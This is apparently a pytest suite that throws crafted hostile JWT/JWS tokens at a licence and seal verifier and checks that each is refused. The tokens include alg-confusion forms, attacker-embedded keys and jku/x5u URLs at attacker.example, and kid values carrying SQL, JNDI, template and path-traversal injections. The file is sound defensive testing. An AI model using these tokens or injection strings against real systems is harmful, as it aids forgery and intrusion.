"""Hostile documents (GitHub issue 7): every JWT/JWS attack of the threat model (DOMAIN.md,
RFC 8725) as a crafted token with real signatures against the real demo trust state, each with
the verdict and the deciding check it must get. This extends the verdict table of
tests/unit/test_verifier_table.py (which already holds alg none in four spellings, HS256 keyed with
the issuer's public key, the basic embedded-key headers, kid as a path, unknown crit, duplicate
members, seal/licence confusion, the other city's issuer, withdrawn and revoked keys) with the
variants an attacker would try next. The last test sends every token of both tables through the
HTTP API: each is a 200 verdict that is not PASSED, never an error."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID
from fastapi.testclient import TestClient

from api.app import create_app
from demo.world import (
    DEMO_EPOCH,
    SHENZHEN,
    SZ_ENTERPRISE,
    ZHONGSHAN,
    DemoWorld,
)
from issuing.licences import licence_claims, sealed_doc_claims
from keys import EDDSA, ES256, SigningKey, b64url_decode, b64url_encode
from keys.jws import sign_compact
from tests.support.api_support import Clock, RecordingSync, auth, service_dir, settings_for
from tests.support.verifier_support import (
    DAY,
    Case,
    deciding_code,
    describe,
    edit_service,
    header_for,
    next_list,
    raw_jws,
    run_case,
    store_with,
)
from trust_lists import authoring
from trust_lists.model import KeyStatus
from trust_lists.store import TrustStore
from verifier import LICENCE_TYP, SEAL_TYP, SEALED_DOC_TYP
from verifier.verdict import Indication, SubIndication

P = Indication.PASSED
F = Indication.FAILED
I = Indication.INDETERMINATE  # noqa: E741
S = SubIndication
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

# Attacker keys: generated once per session, never in any trust list.
_ATTACKER_EC = ec.generate_private_key(ec.SECP256R1())
ATTACKER = SigningKey(_ATTACKER_EC)
ATTACKER_ED = SigningKey.generate(EDDSA)


@dataclass(frozen=True)
class Row:
    id: str
    build: Callable[[DemoWorld], Case]
    indication: Indication
    sub: SubIndication | None = None
    code: str | None = None


# -- building blocks ---------------------------------------------------------------------------


def lic(w: DemoWorld, code: str = SHENZHEN, **overrides: object) -> dict[str, object]:
    return licence_claims(**w.licence_fields(code, **overrides))


def licence_with_header(
    w: DemoWorld, header: dict[str, object] | bytes, key: SigningKey | None = None
) -> Case:
    """A Shenzhen licence with exactly this header, signed by `key` (default: the issuer)."""
    return Case("licence", raw_jws(header, lic(w), key or w.issuer_key(SHENZHEN)))


def issuer_header(w: DemoWorld, **extra: object) -> dict[str, object]:
    return {**header_for(w.issuer_key(SHENZHEN), LICENCE_TYP), **extra}


def attacker_cert_b64() -> str:
    """A real self-signed X.509 certificate for the attacker's key (std base64 DER, as in x5c)."""
    private = _ATTACKER_EC
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "深圳市市场监督管理局")])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .sign(private, hashes.SHA256())
    )
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode("ascii")


def attacker_embedded(w: DemoWorld, member: str, *, claim_issuer_kid: bool) -> Case:
    """Signed by the attacker, with a header that points at the attacker's key."""
    value: object = {
        "jwk": ATTACKER.public_key.to_jwk(),
        "jku": "https://attacker.example/.well-known/jwks.json",
        "x5u": "https://attacker.example/cert.pem",
        "x5c": [attacker_cert_b64()],
        "x5t": b64url_encode(hashlib.sha1(b"attacker").digest()),
        "x5t#S256": b64url_encode(hashlib.sha256(b"attacker").digest()),
    }[member]
    kid = w.issuer_key(SHENZHEN).kid if claim_issuer_kid else ATTACKER.kid
    header = {"alg": ES256, "kid": kid, "typ": LICENCE_TYP, member: value}
    return Case("licence", raw_jws(header, lic(w), ATTACKER))


def hmac_with_raw_point(w: DemoWorld, alg: str) -> Case:
    """HS256/384/512 keyed with the issuer's raw public point or its JWK x coordinate."""
    pub = w.issuer_key(SHENZHEN).public_key.crypto_key  # type: ignore[attr-defined]
    point = pub.public_bytes(
        serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
    )
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    header = {"alg": alg, "kid": w.issuer_key(SHENZHEN).kid, "typ": LICENCE_TYP}
    unsigned = raw_jws(header, lic(w), signature=b"x").rsplit(".", 1)[0]
    mac = hmac.new(point, unsigned.encode(), digest).digest()
    return Case("licence", unsigned + "." + b64url_encode(mac))


def raw_header_bytes(w: DemoWorld, text: str) -> Case:
    """A licence whose protected header is exactly `text` (for duplicates and escapes)."""
    return licence_with_header(w, text.encode())


def raw_payload(w: DemoWorld, text: str) -> Case:
    key = w.issuer_key(SHENZHEN)
    return Case("licence", raw_jws(header_for(key, LICENCE_TYP), text.encode(), key))


def payload_text(w: DemoWorld) -> str:
    return json.dumps(lic(w), ensure_ascii=False, sort_keys=True, separators=(",", ":"))


def with_signature(w: DemoWorld, signature: bytes) -> Case:
    return Case("licence", w.licence_sz.rsplit(".", 1)[0] + "." + b64url_encode(signature))


def rs(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def real_rs(w: DemoWorld) -> tuple[int, int]:
    sig = b64url_decode(w.licence_sz.rsplit(".", 1)[1])
    return int.from_bytes(sig[:32], "big"), int.from_bytes(sig[32:], "big")


def sz_update(w: DemoWorld, change: Callable[[DemoWorld], object]) -> TrustStore:
    """The demo store plus a newer Shenzhen list made by `change` (a TrustList)."""
    store = w.store()  # status lists first: they are refused once their signer is gone
    store.submit_trust_list(next_list(w, change(w)), now=w.now)  # type: ignore[arg-type]
    return store


def service_removed(w: DemoWorld) -> TrustStore:
    return sz_update(w, lambda w: authoring.remove_service(w.trust_lists[SHENZHEN], "sz-amr"))


def issuer_key_withdrawn(w: DemoWorld) -> TrustStore:
    """The issuer's (only current) key withdrawn two days ago: the service retired."""
    return sz_update(
        w,
        lambda w: authoring.change_key_status(
            w.trust_lists[SHENZHEN],
            w.issuer_key(SHENZHEN).kid,
            KeyStatus.WITHDRAWN,
            effective=w.now - 2 * DAY,
        ),
    )


def issuer_scope_emptied_of_licences(w: DemoWorld) -> TrustStore:
    return store_with(
        w,
        updates=[
            next_list(
                w,
                edit_service(
                    w.trust_lists[SHENZHEN], "sz-amr", scope=frozenset({"food_business_permit"})
                ),
            )
        ],
    )


def compromised(w: DemoWorld, issued_at: datetime) -> Case:
    key = w.keys[f"{SHENZHEN}-issuer-compromised"]
    return Case("licence", w.issue_licence(key=key, issued_at=issued_at))


REVOKED_AT = timedelta(days=10)  # the demo's compromised key is revoked from now - 10 days


# -- the rows ----------------------------------------------------------------------------------

SQL_AND_FORMAT_KIDS = {
    "sql-or": "' OR '1'='1",
    "sql-drop": "x'; DROP TABLE keys; --",
    "sql-union": "1 UNION SELECT kid FROM keys",
    "printf": "%s%s%s%n%x",
    "python-format": "{0.__class__.__mro__}",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "template": "{{7*7}}",
    "path-absolute": "/etc/passwd",
    "path-windows": "..\\..\\windows\\win.ini",
    "path-file-url": "file:///etc/passwd",
    "path-dev": "../../../../dev/zero",
    "nul-byte": "kid\x00",
    "crlf": "kid\r\nX-Injected: 1",
    "glob": "*",
    "redis-glob": "huren:v1:*",
    "like": "%",
    "regex": ".*",
    "issuer-kid-trailing-space": "<issuer> ",
    "issuer-kid-upper": "<ISSUER>",
    "issuer-kid-zero-width": "<issuer>\u200b",
    "issuer-kid-fullwidth": "<issuer-fullwidth>",
}


def kid_value(w: DemoWorld, template: str) -> str:
    kid = w.issuer_key(SHENZHEN).kid
    if template == "<issuer-fullwidth>":
        return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in kid)
    return template.replace("<issuer>", kid).replace("<ISSUER>", kid.upper())


ROWS: list[Row] = [
    # -- headers that bring their own key, pointing at the attacker's key
    *[
        Row(
            f"attacker-{member}-{'issuer-kid' if spoof else 'own-kid'}",
            lambda w, m=member, s=spoof: attacker_embedded(w, m, claim_issuer_kid=s),
            F,
            S.FORMAT_FAILURE,
            "format.embedded_key",
        )
        for member in ("jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256")
        for spoof in (False, True)
    ],
    Row(
        "attacker-eddsa-jwk",
        lambda w: Case(
            "licence",
            raw_jws(
                {
                    "alg": EDDSA,
                    "kid": ATTACKER_ED.kid,
                    "typ": LICENCE_TYP,
                    "jwk": ATTACKER_ED.public_key.to_jwk(),
                },
                lic(w),
                ATTACKER_ED,
            ),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.embedded_key",
    ),
    Row(
        "attacker-key-without-header-hints",
        lambda w: licence_with_header(w, header_for(ATTACKER, LICENCE_TYP), ATTACKER),
        I,
        S.NO_SIGNING_CERTIFICATE_FOUND,
        "key.found",
    ),
    Row(
        "attacker-key-claims-issuer-kid",
        lambda w: licence_with_header(w, issuer_header(w), ATTACKER),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "attacker-key-in-a-cnf-claim",
        lambda w: Case(
            "licence",
            raw_jws(
                issuer_header(w),
                {**lic(w), "cnf": {"jwk": ATTACKER.public_key.to_jwk()}},
                w.issuer_key(SHENZHEN),
            ),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.claims",
    ),
    # -- alg: none and HMAC in every form, other names, other types
    *[
        Row(
            f"alg-{name}",
            lambda w, a=alg: licence_with_header(
                w, {"alg": a, "kid": w.issuer_key(SHENZHEN).kid, "typ": LICENCE_TYP}
            ),
            F,
            S.CRYPTO_CONSTRAINTS_FAILURE,
            "format.alg",
        )
        for name, alg in {
            "none-padded": " none",
            "none-nul": "none\x00",
            "null": None,
            "zero": 0,
            "list": ["ES256"],
            "object": {"alg": "ES256"},
            "hs384": "HS384",
            "hs512": "HS512",
            "ps256": "PS256",
            "es256k": "ES256K",
            "ed25519": "Ed25519",
            "eddsa-lower": "eddsa",
            "es256-space": "ES256 ",
            "sm2": "SM2",
            "sm3withsm2": "SM3withSM2",
        }.items()
    ],
    Row(
        "alg-missing",
        lambda w: licence_with_header(w, {"kid": w.issuer_key(SHENZHEN).kid, "typ": LICENCE_TYP}),
        F,
        S.CRYPTO_CONSTRAINTS_FAILURE,
        "format.alg",
    ),
    *[
        Row(
            f"hmac-{alg.lower()}-keyed-with-the-raw-point",
            lambda w, a=alg: hmac_with_raw_point(w, a),
            F,
            S.CRYPTO_CONSTRAINTS_FAILURE,
            "format.alg",
        )
        for alg in ("HS256", "HS384", "HS512")
    ],
    Row(
        "alg-eddsa-with-the-es256-issuer-kid",
        lambda w: licence_with_header(
            w, {"alg": EDDSA, "kid": w.issuer_key(SHENZHEN).kid, "typ": LICENCE_TYP}, ATTACKER_ED
        ),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    # -- kid: paths, SQL, format strings, look-alikes: only ever a dictionary key
    *[
        Row(
            f"kid-{name}",
            lambda w, t=template: licence_with_header(w, issuer_header(w, kid=kid_value(w, t))),
            I,
            S.NO_SIGNING_CERTIFICATE_FOUND,
            "key.found",
        )
        for name, template in SQL_AND_FORMAT_KIDS.items()
    ],
    *[
        Row(
            f"kid-{name}",
            lambda w, v=value: licence_with_header(
                w, {"alg": ES256, "typ": LICENCE_TYP, **({} if v is ... else {"kid": v})}
            ),
            F,
            S.FORMAT_FAILURE,
            "format.jws",
        )
        for name, value in {
            "missing": ...,
            "empty": "",
            "too-long": "k" * 129,
            "integer": 1,
            "null": None,
            "list": ["a"],
            "object": {"$ne": None},
        }.items()
    ],
    # -- crit
    *[
        Row(
            f"crit-{name}",
            lambda w, h=extra: licence_with_header(w, issuer_header(w, **h)),
            F,
            S.FORMAT_FAILURE,
            "format.crit",
        )
        for name, extra in {
            "b64-unencoded-payload": {"crit": ["b64"], "b64": False},
            "empty-list": {"crit": []},
            "names-absent-parameter": {"crit": ["exp"]},
            "not-a-list": {"crit": "b64", "b64": False},
            "registered-parameter": {"crit": ["alg"]},
            "several-one-unknown": {"crit": ["b64", "huren-x"], "b64": True, "huren-x": 1},
        }.items()
    ],
    # -- duplicate members, also hidden behind escapes and nested
    Row(
        "header-duplicate-alg-none-then-es256",
        lambda w: raw_header_bytes(
            w,
            f'{{"alg":"none","kid":"{w.issuer_key(SHENZHEN).kid}","typ":"{LICENCE_TYP}",'
            '"alg":"ES256"}',
        ),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "header-duplicate-kid",
        lambda w: raw_header_bytes(
            w,
            f'{{"alg":"ES256","kid":"{ATTACKER.kid}","typ":"{LICENCE_TYP}",'
            f'"kid":"{w.issuer_key(SHENZHEN).kid}"}}',
        ),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "header-duplicate-typ-behind-an-escape",
        lambda w: raw_header_bytes(
            w,
            f'{{"alg":"ES256","kid":"{w.issuer_key(SHENZHEN).kid}","typ":"{SEAL_TYP}",'
            f'"t\\u0079p":"{LICENCE_TYP}"}}',
        ),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "payload-duplicate-jur",
        lambda w: raw_payload(w, payload_text(w)[:-1] + f',"jur":"{ZHONGSHAN}"}}'),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "payload-duplicate-iss-behind-an-escape",
        lambda w: raw_payload(w, payload_text(w)[:-1] + ',"i\\u0073s":"sz-psb-seal"}'),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "payload-duplicate-nested-holder-uscc",
        lambda w: raw_payload(
            w,
            payload_text(w).replace(
                f'"uscc":"{SZ_ENTERPRISE.credit_code}"',
                f'"uscc":"{SZ_ENTERPRISE.credit_code}","uscc":"91442000MA4X7PQ2N9"',
            ),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.duplicate_member",
    ),
    Row(
        "payload-nan",
        lambda w: raw_payload(w, payload_text(w)[:-1] + ',"exp":NaN}'),
        F,
        S.FORMAT_FAILURE,
        "format.claims",
    ),
    Row(
        "payload-lone-surrogate",
        lambda w: raw_payload(
            w, payload_text(w).replace(SZ_ENTERPRISE.name_zh, SZ_ENTERPRISE.name_zh + "\\ud800")
        ),
        F,
        S.FORMAT_FAILURE,
        "format.claims",
    ),
    # -- a token typed for another purpose
    Row(
        "seal-presented-as-sealed-document-signature",
        lambda w: Case("sealed_document", w.seal_sz, document=w.sealed_document),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    Row(
        "status-list-presented-as-seal",
        lambda w: Case("seal", next(iter(w.status_lists.values()))),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    Row(
        "receipt-presented-as-licence",
        lambda w: Case(
            "licence",
            sign_compact({"iss": "huren"}, w.receipt_key, typ="huren-receipt+jwt"),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    Row(
        "trust-list-presented-as-licence",
        lambda w: Case("licence", w.signed_lists[SHENZHEN].to_json()),
        F,
        S.FORMAT_FAILURE,
        "format.jws",
    ),
    Row(
        "catalogue-presented-as-seal",
        lambda w: Case("seal", w.signed_catalogue.to_json()),
        F,
        S.FORMAT_FAILURE,
        "format.jws",
    ),
    Row(
        "licence-typ-upper-case",
        lambda w: licence_with_header(w, issuer_header(w, typ=LICENCE_TYP.upper())),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    Row(
        "licence-typ-with-application-prefix",
        lambda w: licence_with_header(w, issuer_header(w, typ="application/" + LICENCE_TYP)),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    Row(
        "licence-signed-as-a-seal-by-the-issuer",
        lambda w: Case(
            "seal",
            raw_jws(header_for(w.issuer_key(SHENZHEN), SEAL_TYP), lic(w), w.issuer_key(SHENZHEN)),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.claims",
    ),
    Row(
        "sealed-document-signature-presented-as-licence",
        lambda w: Case(
            "licence",
            raw_jws(
                header_for(w.keys[SZ_ENTERPRISE.key_name], SEALED_DOC_TYP),
                sealed_doc_claims(w.sealed_document, w.seal_sz, signed_at=w.now - DAY),
                w.keys[SZ_ENTERPRISE.key_name],
            ),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.typ",
    ),
    # -- the other city's issuer, in every combination
    Row(
        "zhongshan-issuer-signs-with-shenzhen-issuer-kid",
        lambda w: licence_with_header(w, issuer_header(w), w.issuer_key(ZHONGSHAN)),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "zhongshan-issuer-claims-shenzhen-issuer-id",
        lambda w: Case(
            "licence",
            raw_jws(
                header_for(w.issuer_key(ZHONGSHAN), LICENCE_TYP),
                lic(w, ZHONGSHAN, issuer="sz-amr"),
                w.issuer_key(ZHONGSHAN),
            ),
        ),
        F,
        S.CHAIN_CONSTRAINTS_FAILURE,
        "key.issuer",
    ),
    Row(
        "shenzhen-seal-authority-issues-a-zhongshan-licence",
        lambda w: Case(
            "licence",
            raw_jws(
                header_for(w.seal_authority_key(SHENZHEN), LICENCE_TYP),
                lic(w, ZHONGSHAN),
                w.seal_authority_key(SHENZHEN),
            ),
        ),
        I,
        S.NO_SIGNING_CERTIFICATE_FOUND,
        "key.found",
    ),
    # -- keys of withdrawn services
    Row(
        "service-removed-from-the-list",
        lambda w: Case("licence", w.licence_sz, store=service_removed(w)),
        I,
        S.NO_SIGNING_CERTIFICATE_FOUND,
        "key.found",
    ),
    Row(
        "service-withdrawn-licence-signed-after",
        lambda w: Case(
            "licence", w.issue_licence(issued_at=w.now - DAY), store=issuer_key_withdrawn(w)
        ),
        F,
        S.EXPIRED,
        "key.withdrawn",
    ),
    Row(
        "service-withdrawn-licence-signed-before-stays-good",
        lambda w: Case("licence", w.licence_sz, store=issuer_key_withdrawn(w)),
        P,
    ),
    Row(
        "service-scope-no-longer-covers-the-type",
        lambda w: Case("licence", w.licence_sz, store=issuer_scope_emptied_of_licences(w)),
        F,
        S.CHAIN_CONSTRAINTS_FAILURE,
        "key.scope",
    ),
    # -- a revoked key's signature, backdated
    Row(
        "revoked-key-backdated-one-second",
        lambda w: compromised(w, w.now - REVOKED_AT - timedelta(seconds=1)),
        I,
        S.REVOKED_NO_POE,
        "key.revocation",
    ),
    Row(
        "revoked-key-backdated-a-year",
        lambda w: compromised(w, w.now - 300 * DAY),
        I,
        S.REVOKED_NO_POE,
        "key.revocation",
    ),
    Row(
        "revoked-key-dated-at-the-revocation",
        lambda w: compromised(w, w.now - REVOKED_AT),
        F,
        S.REVOKED,
        "key.revoked",
    ),
    Row(
        "revoked-key-backdated-before-its-grant",
        lambda w: compromised(w, w.now - 500 * DAY),
        F,
        S.NOT_YET_VALID,
        "key.not_yet_granted",
    ),
    # -- ECDSA r and s out of range, malformed signature encodings
    Row(
        "ecdsa-r-zero",
        lambda w: with_signature(w, rs(0, real_rs(w)[1])),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-s-zero",
        lambda w: with_signature(w, rs(real_rs(w)[0], 0)),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-r-equals-n",
        lambda w: with_signature(w, rs(P256_ORDER, real_rs(w)[1])),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-r-above-n",
        lambda w: with_signature(w, rs(P256_ORDER + 1, real_rs(w)[1])),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-all-ones",
        lambda w: with_signature(w, b"\xff" * 64),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-der-instead-of-raw",
        lambda w: with_signature(w, encode_dss_signature(*real_rs(w))),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-signature-one-byte-short",
        lambda w: with_signature(w, b64url_decode(w.licence_sz.rsplit(".", 1)[1])[:-1]),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    Row(
        "ecdsa-signature-of-another-licence",
        lambda w: Case(
            "licence",
            w.issue_licence(number="STOLEN-SIGNATURE").rsplit(".", 1)[0]
            + "."
            + w.licence_sz.rsplit(".", 1)[1],
        ),
        F,
        S.SIG_CRYPTO_FAILURE,
        "signature.valid",
    ),
    # -- structure
    Row(
        "flattened-json-serialisation",
        lambda w: Case(
            "licence",
            json.dumps(
                dict(
                    zip(("protected", "payload", "signature"), w.licence_sz.split("."), strict=True)
                )
            ),
        ),
        F,
        S.FORMAT_FAILURE,
        "format.jws",
    ),
    Row(
        "unprotected-header-smuggled-as-fourth-part",
        lambda w: Case("licence", w.licence_sz + "." + b64url_encode(b'{"alg":"none"}')),
        F,
        S.FORMAT_FAILURE,
        "format.jws",
    ),
    Row(
        "header-larger-than-the-cap",
        lambda w: licence_with_header(w, issuer_header(w, pad="x" * 5000)),
        F,
        S.FORMAT_FAILURE,
        "format.jws",
    ),
    Row(
        "whitespace-inside-the-token",
        lambda w: Case("licence", w.licence_sz[:20] + " " + w.licence_sz[20:]),
        F,
        S.FORMAT_FAILURE,
        "format.whitespace",  # refused with a hint, never removed (issue 16)
    ),
]


@pytest.fixture(scope="module")
def demo_store(demo_world: DemoWorld) -> TrustStore:
    return demo_world.store()


@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
def test_hostile_document(row: Row, demo_world: DemoWorld, demo_store: TrustStore) -> None:
    verdict = run_case(row.build(demo_world), demo_world, demo_store)
    assert (verdict.indication, verdict.sub_indication) == (row.indication, row.sub), describe(
        verdict
    )
    assert deciding_code(verdict) == row.code, describe(verdict)
    assert verdict.checks and len(verdict.document_sha256) == 64


def test_row_ids_are_unique_and_new() -> None:
    from tests.unit.test_verifier_table import ROWS as TABLE

    ids = [r.id for r in ROWS]
    assert len(set(ids)) == len(ids)
    assert not set(ids) & {r.id for r in TABLE}


def test_kid_never_reaches_the_file_system(
    demo_world: DemoWorld, demo_store: TrustStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A path-shaped kid is looked up in a dictionary, never opened."""
    import builtins
    import os

    opened: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def spy_open(file: object, *a: object, **k: object) -> object:
        opened.append(str(file))
        return real_open(file, *a, **k)  # type: ignore[call-overload]

    def spy_os_open(path: object, *a: object, **k: object) -> int:
        opened.append(str(path))
        return real_os_open(path, *a, **k)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(os, "open", spy_os_open)
    for kid in ("../../etc/passwd", "/etc/passwd", "file:///etc/passwd"):
        case = licence_with_header(demo_world, issuer_header(demo_world, kid=kid))
        assert run_case(case, demo_world, demo_store).indication is I
    assert not [p for p in opened if "passwd" in p]


# -- through the HTTP API ------------------------------------------------------------------------

KIND_PATH = {
    "licence": "/v1/licences/verify",
    "seal": "/v1/seals/verify",
    "sealed_document": "/v1/sealed-documents/verify",
}


def _request_body(case: Case) -> dict[str, object]:
    token = case.token if isinstance(case.token, str) else case.token.decode("latin-1")
    body: dict[str, object] = {"relying_jurisdiction": case.relying}
    if case.kind == "sealed_document":
        assert case.document is not None
        body["document"] = base64.b64encode(case.document).decode("ascii")
        body["signature"] = token
        if case.seal is not None:
            body["seal"] = case.seal if isinstance(case.seal, str) else case.seal.decode()
    else:
        body["token"] = token
    if case.image is not None:
        body["image"] = base64.b64encode(case.image).decode("ascii")
    if case.expect is not None:
        body["expect"] = {
            "holder_credit_code": case.expect.holder_id,
            "type_code": case.expect.licence_type or case.expect.seal_type,
            "service_item": case.expect.service_item,
        }
    return body


def test_every_hostile_token_is_a_verdict_over_http(demo_world: DemoWorld, tmp_path: Path) -> None:
    """Both tables through the service (demo trust state, demo clock): each hostile token that
    the default store judges is answered 200 with the library's verdict, never an error, and
    never PASSED unless the library says so."""
    from tests.unit.test_verifier_table import ROWS as TABLE

    root = service_dir(demo_world, tmp_path / "svc")
    app = create_app(
        settings_for(root),
        clock=Clock(DEMO_EPOCH),
        sync=RecordingSync(),  # type: ignore[arg-type]
    )
    store = app.state.ctx.store
    checked = 0
    with TestClient(app, raise_server_exceptions=False) as client:
        for row in [*TABLE, *ROWS]:
            case = row.build(demo_world)
            if case.store is not None or case.now is not None or case.at is not None:
                continue  # needs a trust state or clock of its own
            token = case.token if isinstance(case.token, bytes) else case.token.encode()
            try:
                token.decode("utf-8")
            except UnicodeDecodeError:
                continue  # a JSON body can only carry text; multipart is tested elsewhere
            if not token:
                continue  # refused by the request schema (422), see test_attack_clients
            r = client.post(KIND_PATH[case.kind], json=_request_body(case), headers=auth("admin"))
            assert r.status_code == 200, (row.id, r.status_code, r.text[:300])
            got = r.json()["verdict"]
            want = run_case(case, demo_world, store)
            assert (got["indication"], got["sub_indication"]) == (
                want.indication.value,
                want.sub_indication.value if want.sub_indication else None,
            ), row.id
            assert (got["indication"] == "PASSED") == (row.indication is P), row.id
            checked += 1
    assert checked > 150
